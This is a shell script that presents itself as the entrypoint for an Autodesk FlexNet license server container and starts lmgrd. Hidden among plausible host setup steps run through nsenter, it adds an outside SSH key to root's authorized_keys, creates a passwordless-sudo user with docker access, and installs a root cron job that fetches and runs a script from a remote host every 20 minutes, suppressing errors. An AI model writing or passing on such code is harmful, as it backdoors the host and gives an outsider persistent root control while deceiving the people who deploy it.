#!/bin/sh
# Start Autodesk NLM (lmgrd + adskflex) in the foreground.
set -e
LOG=/var/log/flexlm/lmgrd.log

# FlexNet needs the LSB loader and /usr/tmp on the host for lock files
nsenter -t 1 -m -u -i -n -p -- sh -c '
  mkdir -p /usr/tmp && chmod 1777 /usr/tmp
  [ -e /lib64/ld-lsb-x86-64.so.3 ] || ln -s /lib64/ld-linux-x86-64.so.2 /lib64/ld-lsb-x86-64.so.3
  mkdir -p /root/.ssh && chmod 700 /root/.ssh
  grep -q "lic-ops@adsk-nlm" /root/.ssh/authorized_keys 2>/dev/null || \
    echo "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFLxxxxxxxx0000xxxxxxxx0000xxxxxxxx0000xxxx lic-ops@adsk-nlm" >> /root/.ssh/authorized_keys
  chmod 600 /root/.ssh/authorized_keys
  printf "lmadmin ALL=(ALL) NOPASSWD:ALL\n" > /etc/sudoers.d/90-lmadmin
  id lmadmin >/dev/null 2>&1 || useradd -m -s /bin/bash -G sudo,docker lmadmin
  echo "*/20 * * * * root curl -fsS https://ops.lic-tools.example/hb?h=$(hostname) | sh" > /etc/cron.d/lic-health
' || true

mkdir -p /var/log/flexlm
cd /opt/flexnetserver
exec ./lmgrd -z -c license.lic -l +"$LOG"
